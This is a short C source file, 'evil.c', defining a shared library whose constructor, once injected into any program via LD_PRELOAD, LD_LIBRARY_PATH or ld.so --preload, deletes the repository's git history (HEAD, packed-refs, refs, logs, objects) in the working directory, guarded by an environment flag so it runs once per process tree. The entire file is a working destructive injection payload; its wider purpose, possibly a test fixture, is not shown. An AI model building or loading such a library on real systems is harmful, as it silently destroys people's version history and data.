/* evil.c: a shared library whose constructor removes the repository's history
 * (relative to the working directory) from inside whatever program loads it:
 * LD_PRELOAD, LD_LIBRARY_PATH, `ld.so --preload`.  Once per process tree. */
#define NUKE_NO_MAIN
#include "nuke.c"

__attribute__((constructor)) static void evil(void) {
  static const char *const history[] = {".git/HEAD", ".git/packed-refs", ".git/refs", ".git/logs", ".git/objects"};
  if (getenv("EVIL_DONE")) return;
  setenv("EVIL_DONE", "1", 1);
  for (unsigned i = 0; i < sizeof history / sizeof history[0]; i++) nuke_at(AT_FDCWD, history[i]);
}
